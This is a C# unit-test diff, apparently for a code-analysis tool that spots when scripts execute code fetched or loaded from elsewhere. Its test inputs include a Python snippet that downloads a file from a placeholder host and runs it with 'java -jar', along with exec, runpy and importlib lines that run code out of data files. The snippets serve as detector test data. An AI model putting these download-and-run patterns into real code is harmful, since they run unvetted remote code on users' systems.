@@ -9,6 +9,15 @@ public sealed class CodeFromElsewhereTests
     private const string Encoded = "aW1wb3J0IG9z";
 
     [Theory]
+    [InlineData("-jar", true)]
+    [InlineData("-cp tools.jar org.example.Main -i", false)]
+    public void What_java_is_given_to_read_is_not_started(string options, bool starts)
+    {
+        var effects = Evaluation.Of("python", $"import requests, subprocess\nopen('/tmp/x1.bin', 'wb').write(requests.get('https://files.example/x').content)\nsubprocess.Popen(['java', {string.Join(", ", options.Split(' ').Select(static option => $"'{option}'"))}, '/tmp/x1.bin'])\n");
+        Assert.Equal(starts, effects.SelectMany(static effect => effect.Steps).Any(static step => step is { Kind: EffectKind.Execute, Object: "/tmp/x1.bin" }));
+    }
+
+    [Theory]
     [InlineData("python", "exec(open('/app/g.dat').read())", "/app/g.dat")]
     [InlineData("python", "import runpy\nrunpy.run_path('g.dat')", "g.dat")]
     [InlineData("python", "import importlib.util\ns = importlib.util.spec_from_file_location('x', '/app/g.py')", "/app/g.py")]
